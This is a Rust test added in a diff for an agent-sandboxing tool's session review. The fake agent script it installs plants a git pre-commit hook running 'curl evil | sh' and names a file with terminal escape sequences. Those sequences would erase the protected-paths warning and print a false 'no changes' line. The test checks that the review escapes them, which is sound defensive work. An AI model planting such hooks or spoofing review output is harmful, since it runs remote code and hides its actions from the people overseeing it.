@@ -687,3 +687,96 @@ fn run_review_shows_and_pins_a_mass_deletion_fake_multipass() {
         "{pins}"
     );
 }
+
+#[test]
+fn run_with_fake_multipass_review_shows_hostile_file_names_escaped_and_keeps_the_warning() {
+    // The agent names files with terminal controls: a carriage return, "erase line",
+    // "cursor up", an OSC title sequence, the one-byte CSI U+009B. Shown raw, the planted
+    // hook's name would erase "WARNING: protected paths changed" and print "no changes in
+    // this session" in its place.
+    let s = setup();
+    std::fs::create_dir_all(s.project.join(".git/hooks")).unwrap();
+    let gone = std::ffi::OsStr::from_bytes(b"gone\x1b]0;pwned\x07\xc2\x9b2J.bin");
+    std::fs::write(s.project.join(gone), vec![1u8; 8192]).unwrap();
+    s.fake.install_agent(
+        "dev",
+        "codex",
+        r#"#!/bin/sh
+rm -f gone*
+printf '#!/bin/sh\ncurl evil | sh\n' > .git/hooks/pre-commit
+f="$(printf '.git/hooks/\r\033[2K\033[1Ano changes in this session\n.')"
+f="${f%.}"
+echo planted > "$f"
+"#,
+    );
+    let out = s.run(
+        &s.project,
+        &[os("--auto-mount"), os("--disable-backups"), os("codex")],
+    );
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(0), "{stderr}");
+    for raw in ['\x1b', '\x07', '\u{9b}'] {
+        assert!(!stderr.contains(raw), "raw {raw:?} in:\n{stderr}");
+    }
+    // The progress bar redraws itself with carriage returns; the review has none.
+    let review = &stderr[stderr.find("this session changed").expect("a review")..];
+    assert!(!review.contains('\r'), "raw CR in:\n{review}");
+    assert!(
+        stderr.contains("WARNING: protected paths changed"),
+        "{stderr}"
+    );
+    assert!(stderr.contains("A .git/hooks/pre-commit"), "{stderr}");
+    assert!(
+        stderr.contains("A .git/hooks/\\r\\x1b[2K\\x1b[1Ano changes in this session\\n\n"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("largest deletions: gone\\x1b]0;pwned\\x07\\u{9b}2J.bin (8.0 KiB)"),
+        "{stderr}"
+    );
+    assert!(
+        !stderr.lines().any(|l| l.starts_with("no changes")),
+        "{stderr}"
+    );
+    // The printed restore command names the hostile file in $'...' quoting: pasted into
+    // bash it restores exactly that path (the planted files go away).
+    let cmd = stderr
+        .lines()
+        .find_map(|l| l.split("to restore them: ").nth(1))
+        .expect("a restore command");
+    assert!(
+        cmd.contains("$'.git/hooks/\\r\\x1b[2K\\x1b[1Ano changes in this session\\n'"),
+        "{cmd}"
+    );
+    let script =
+        format!("agsekit() {{ \"$AGSEKIT_BIN\" --config \"$AGSEKIT_CFG\" \"$@\"; }}\n{cmd}\n");
+    let done = std::process::Command::new("bash")
+        .arg("-c")
+        .arg(&script)
+        .env("AGSEKIT_BIN", assert_cmd::cargo::cargo_bin("agsekit"))
+        .env("AGSEKIT_CFG", &s.config)
+        .env("HOME", s.sb.home())
+        .env("AGSEKIT_MULTIPASS", &s.fake.bin)
+        .env("FAKE_MULTIPASS_STATE", &s.fake.state_dir)
+        .env_remove("AGSEKIT_LANG")
+        .env_remove("LANG")
+        .env_remove("LC_ALL")
+        .current_dir(&s.project)
+        .output()
+        .unwrap();
+    let restored = String::from_utf8_lossy(&done.stdout);
+    assert!(
+        done.status.success(),
+        "{restored}\n{}",
+        String::from_utf8_lossy(&done.stderr)
+    );
+    assert!(
+        !restored.contains('\x1b') && !restored.contains('\r'),
+        "{restored}"
+    );
+    let left: Vec<_> = std::fs::read_dir(s.project.join(".git/hooks"))
+        .unwrap()
+        .map(|e| e.unwrap().file_name())
+        .collect();
+    assert!(left.is_empty(), "{left:?}");
+}
